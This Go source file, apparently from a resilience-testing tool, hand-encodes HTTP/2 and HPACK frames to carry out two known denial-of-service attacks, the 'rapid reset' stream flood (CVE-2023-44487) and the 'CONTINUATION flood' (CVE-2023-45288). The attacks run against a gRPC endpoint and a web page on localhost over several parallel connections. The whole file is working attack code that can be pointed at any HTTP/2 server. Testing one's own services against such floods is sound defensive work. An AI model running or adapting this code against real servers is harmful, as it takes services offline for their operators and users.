package main

import (
	"bytes"
	"context"
	"encoding/binary"
	"io"
	"net"
	"time"
)

// This file writes HTTP/2 as RFC 9113 and RFC 7541 (HPACK) have it, because a library keeps its users from what the
// attacks do.

// preface begins a connection, and an empty SETTINGS frame follows it.
const preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + "\x00\x00\x00\x04\x00\x00\x00\x00\x00"

// Types and flags of frames, and an error code.
const (
	frameData, frameHeaders, frameReset, frameContinuation = 0, 1, 3, 9
	flagEndStream, flagEndHeaders                          = 1, 4
	codeCancel                                             = 8
)

// appendFrame appends a frame of a stream.
func appendFrame(b []byte, kind, flags byte, stream uint32, payload []byte) []byte {
	b = append(b, byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload)), kind, flags)
	b = binary.BigEndian.AppendUint32(b, stream)
	return append(b, payload...)
}

// Header fields of HPACK's static table.
const (
	fieldGet, fieldPost, fieldHTTP, fieldHTTPS = "\x82", "\x83", "\x86", "\x87"
	fieldAuthority, fieldPath, fieldType       = "\x01", "\x04", "\x0f\x10" // literals with an indexed name
	newField                                   = "\x00"
)

// literal is the text of a header field.
func literal(text string) string {
	if len(text) < 127 {
		return string([]byte{byte(len(text))}) + text
	}
	return "\x7f" + string(binary.AppendUvarint(nil, uint64(len(text)-127))) + text
}

// http2Request is a request that an attack sends again and again.
type http2Request struct {
	head []byte // HPACK
	body []byte // of a DATA frame; nil: none
}

// grpcRequest lists the instances.
var grpcRequest = http2Request{
	head: []byte(fieldPost + fieldHTTP + fieldPath + literal("/canisterd.control.v1.Instances/ListInstances") +
		fieldAuthority + literal("localhost") + fieldType + literal("application/grpc") + newField + literal("te") + literal("trailers")),
	body: make([]byte, 5), // an empty message
}

// pageRequest asks for a page.
var pageRequest = http2Request{head: []byte(fieldGet + fieldHTTPS + fieldPath + literal("/") + fieldAuthority + literal("localhost"))}

const (
	// floodConnections is how many connections a flood has.
	floodConnections = 4
	// resetBatch is how many streams are opened and reset at once, each batchPause.
	resetBatch = 100
	batchPause = 20 * time.Millisecond
	// floodBytes is how much of a request's head is sent over a connection, in frames of floodFrame bytes.
	floodBytes, floodFrame = 16 << 20, 16 << 10
)

// open opens a connection of HTTP/2 that reads what comes and drops it.
func (s *stage) openHTTP2(ctx context.Context, connect func(context.Context) (net.Conn, error)) (net.Conn, error) {
	conn, err := connect(ctx)
	if err != nil {
		return nil, err
	}
	if _, err := io.WriteString(conn, preface); err != nil {
		_ = conn.Close()
		return nil, err
	}
	go func() { _, _ = io.Copy(io.Discard, conn) }() // it ends with the connection
	return conn, nil
}

// resetStreams opens streams and resets them at once (CVE-2023-44487, "rapid reset").
func (s *stage) resetStreams(ctx context.Context, connect func(context.Context) (net.Conn, error), request http2Request) {
	s.keep(ctx, floodConnections, batchPause, func(ctx context.Context, _ int) error {
		conn, err := s.openHTTP2(ctx, connect)
		if err != nil {
			return err
		}
		defer func() { _ = conn.Close() }()
		for stream := uint32(1); ctx.Err() == nil; {
			var batch []byte
			for range resetBatch {
				batch = request.appendReset(batch, stream)
				stream += 2
			}
			_ = conn.SetWriteDeadline(time.Now().Add(requestTimeout)) // a failure shows in the next line
			if _, err := conn.Write(batch); err != nil {
				return err
			}
			s.requests.Add(resetBatch)
			select {
			case <-ctx.Done():
			case <-time.After(batchPause):
			}
		}
		return nil
	})
}

// appendReset appends the request and its reset.
func (r *http2Request) appendReset(b []byte, stream uint32) []byte {
	if r.body == nil {
		b = appendFrame(b, frameHeaders, flagEndHeaders|flagEndStream, stream, r.head)
	} else {
		b = appendFrame(b, frameHeaders, flagEndHeaders, stream, r.head)
		b = appendFrame(b, frameData, flagEndStream, stream, r.body)
	}
	return appendFrame(b, frameReset, 0, stream, binary.BigEndian.AppendUint32(nil, codeCancel))
}

// continueHeads sends heads of requests that do not end (CVE-2023-45288, "CONTINUATION flood").
func (s *stage) continueHeads(ctx context.Context, connect func(context.Context) (net.Conn, error), request http2Request) {
	field := newField + literal("x") + literal(string(bytes.Repeat([]byte{'a'}, 4000)))
	piece := bytes.Repeat([]byte(field), floodFrame/len(field))
	s.keep(ctx, floodConnections, batchPause, func(ctx context.Context, _ int) error {
		conn, err := s.openHTTP2(ctx, connect)
		if err != nil {
			return err
		}
		defer func() { _ = conn.Close() }()
		frame := appendFrame(nil, frameHeaders, 0, 1, request.head)
		for sent := 0; sent < floodBytes && ctx.Err() == nil; sent += len(frame) {
			_ = conn.SetWriteDeadline(time.Now().Add(requestTimeout)) // a failure shows in the next line
			if _, err := conn.Write(frame); err != nil {
				return err
			}
			frame = appendFrame(nil, frameContinuation, 0, 1, piece)
		}
		return nil
	})
}
